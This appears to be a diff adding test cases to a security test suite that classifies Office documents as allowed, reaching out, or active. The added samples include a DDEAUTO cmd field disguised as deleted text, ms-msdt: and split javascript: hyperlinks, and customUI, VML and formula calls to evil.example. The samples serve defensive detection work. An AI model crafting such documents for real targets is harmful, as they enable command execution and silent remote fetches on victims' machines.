@@ -49,6 +49,18 @@ TAKEN = {
         ),
         "xlsx",
     ),
+    "a link in a formula": (
+        make_sheet("<f>HYPERLINK(&quot;https://a.example&quot;,A1)</f>"),
+        "xlsx",
+    ),
+    "a button without a program": (
+        make_office(
+            parts={
+                "customUI/customUI.xml": "<customUI><button onAction='Print'/></customUI>"
+            }
+        ),
+        "docx",
+    ),
     "a slide that jumps": (
         make_slide('<a:hlinkClick action="ppaction://hlinksldjump"/>'),
         "pptx",
@@ -110,6 +122,20 @@ REACHES_OUT = {
         "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
     ),
     "a picture by a formula": make_sheet('<f t="array">_xlfn.IMAGE(A1)</f>'),
+    "an exchange in words deleted with corrections kept": make_text(
+        _field("DDEAUTO cmd").replace("instrText", "delInstrText")
+    ),
+    "a button worked by another file": make_office(
+        parts={"customUI/customUI.xml": "<customUI onLoad='http://evil.example/a!b'/>"}
+    ),
+    "a picture of the old kind": make_office(
+        parts={"word/drawing.vml": "<v:imagedata xmlns:v='v' src='//evil/a.png'/>"}
+    ),
+    "a query every minute": make_office(
+        SHEETS,
+        "xl/workbook.xml",
+        {"xl/connections.xml": '<all><connection id="1" interval="1"/></all>'},
+    ),
     "a query that does not wait": make_office(
         SHEETS,
         "xl/workbook.xml",
@@ -124,6 +150,8 @@ def test_what_fetches_something_is_refused(what):
 
 
 ACTIVE = {
+    "a link by a field": make_text(_field('HYPERLINK "java', 'script:a"')),
+    "a link by a formula": make_sheet("<f>HYPERLINK(&quot;ms-msdt:/id&quot;)</f>"),
     "a slide that starts a program": make_slide(
         '<a:hlinkClick action="ppaction&#58;//program"/>'
     ),
